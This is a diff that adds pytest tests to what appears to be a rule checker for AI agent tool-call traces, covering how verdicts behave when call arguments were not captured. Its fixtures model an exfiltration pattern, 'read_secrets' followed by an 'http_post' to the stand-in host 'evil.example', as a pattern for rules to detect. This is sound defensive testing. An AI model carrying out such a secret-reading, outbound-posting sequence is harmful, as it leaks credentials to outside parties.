@@ -454,3 +454,66 @@ def test_a_behaviour_never_decided_passes_no_violation_target() -> None:
     expect = {e["target"]: e for e in compute_snapshot(state, spec).agents["a"]["expect"]}
     assert expect["contracts.violations_at_or_above_fail_on"]["value"] == 0
     assert expect["contracts.violations_at_or_above_fail_on"]["passed"]
+
+
+# --- an uncaptured call: unknown exactly when it decides the rule, for every rule kind ---
+
+EVIL = {"tool": "http_post", "args": {"url": "evil"}}  # searched in the argument's JSON text
+
+
+@pytest.mark.parametrize(
+    ("rule", "calls", "if_match", "if_not"),
+    [
+        ({"called": EVIL}, ["read_secrets", "HTTP"], "yes", "no"),
+        ({"calls": {"tool": EVIL, "max": 0}}, ["HTTP"], "no", "vacuous"),
+        ({"calls": {"tool": EVIL, "min": 1, "max": 1}}, ["HTTP", "log"], "yes", "no"),
+        ({"eventually": {"tool": EVIL, "within": 1}}, ["HTTP", "log"], "yes", "no"),
+        ({"before": {"first": "approve", "then": EVIL}}, ["HTTP", "approve"], "no", "vacuous"),
+        ({"after": {"trigger": EVIL, "then": "audit"}}, ["HTTP"], "no", "vacuous"),
+        ({"sequence": {"tools": ["read_secrets", EVIL]}}, ["read_secrets", "log", "HTTP"],
+         "yes", "no"),
+        ({"sequence": {"tools": ["read_secrets", EVIL], "strict": True}},
+         ["read_secrets", "HTTP"], "yes", "no"),
+        # no completion of the unknown shows it: decided although an argument is missing
+        ({"sequence": {"tools": ["read_secrets", EVIL]}}, ["HTTP", "read_secrets"], "no", "no"),
+        ({"sequence": {"tools": [EVIL]}}, ["HTTP", ("http_post", {"url": "evil.example"})],
+         "yes", "yes"),
+        ({"trajectory": {"tools": ["read_secrets", EVIL]}}, ["read_secrets", "HTTP"],
+         "yes", "no"),
+        ({"trajectory": {"tools": [["read_secrets"], [EVIL]]}}, ["read_secrets", "HTTP"],
+         "yes", "no"),
+        ({"trajectory": {"tools": ["read_secrets", EVIL], "mode": "in_order"}},
+         ["read_secrets", "log", "HTTP"], "yes", "no"),
+        ({"trajectory": {"tools": ["read_secrets", EVIL], "mode": "same_tools"}},
+         ["HTTP", "read_secrets"], "yes", "no"),
+        ({"trajectory": {"tools": [EVIL], "mode": "contains"}}, ["read_secrets", "HTTP"],
+         "yes", "no"),
+        ({"trajectory": {"tools": ["read_secrets", EVIL], "mode": "only"}}, ["HTTP"],
+         "yes", "no"),
+        ({"trajectory": {"tools": ["read_secrets", EVIL]}}, ["HTTP", "read_secrets"],
+         "no", "no"),
+        ({"allowed_only": ["read_secrets", EVIL]}, ["read_secrets", "HTTP"], "yes", "no"),
+    ],
+)
+def test_an_uncaptured_call_is_unknown_exactly_when_it_decides_the_rule(
+    rule: dict[str, Any], calls: list[Any], if_match: str, if_not: str
+) -> None:
+    """docs/contracts.md: arguments not captured make a verdict unknown, never satisfied nor
+    violated, unless every way the arguments could have been decides it the same."""
+
+    def run(args: Any) -> Any:
+        return make_run(*(("http_post", args) if c == "HTTP" else c for c in calls))
+
+    assert shows(rule, run({"url": "https://evil.example"})) == if_match
+    assert shows(rule, run({"url": "https://docs.example"})) == if_not
+    assert shows(rule, run(NOT_CAPTURED)) == (if_match if if_match == if_not else "unknown")
+
+
+def test_an_exact_trajectory_with_one_extra_turn_is_violated_without_an_error() -> None:
+    for reference in (["a", "b"], [["a"], ["b"]]):
+        contract = {"name": "c", "must": [{"behavior": "m", "trajectory": {"tools": reference}}]}
+        for calls in (("a", "b", "c"), ("a",), ("a", "b", "a")):
+            v = judged(make_run(*calls), contract)
+            assert (results(v), v.errors) == ({"m": "violated"}, 0), (reference, calls)
+        v = judged(make_run("a", "b"), contract)
+        assert (results(v), v.errors) == ({"m": "satisfied"}, 0)
